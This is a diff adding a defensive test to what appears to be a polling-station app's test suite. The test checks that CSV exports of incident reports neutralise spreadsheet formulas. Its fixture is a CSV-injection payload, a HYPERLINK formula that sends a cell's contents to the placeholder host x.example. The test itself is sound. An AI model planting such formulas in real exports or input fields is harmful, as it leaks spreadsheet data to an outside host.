@@ -250,3 +250,17 @@ def test_a_silent_counts_a_station_that_missed_a_turnout_moment_not_one_quiet_be
     [alert], view = silent_at(14, 30)
     assert alert.params["moment"] == "13:45" and alert.params["minutes"] == 45
     assert view.silent == 1
+
+
+def test_an_incident_text_typed_as_a_formula_is_inert_in_the_incidents_export(day):
+    db, chair_actor, sid, _, own, _ = day
+    formula = '=HYPERLINK("https://x.example/?"&A2;"Klik")'
+    chair.raise_incident(db, chair_actor, sid, "other", formula, client_submission_id=_cid())
+    table = office.export_incidents(db, own, GR, OWN)
+    assert formula in [r["description"] for r in table.rows]  # stored and shown as typed
+    for fmt in ("csv", "csv-nl"):
+        text = exports.to_csv(table.columns, table.rows, fmt).decode("utf-8-sig")
+        cells = [
+            c for row in csv.reader(io.StringIO(text), delimiter=";" if fmt == "csv-nl" else ",") for c in row
+        ]
+        assert "'" + formula in cells and formula not in cells
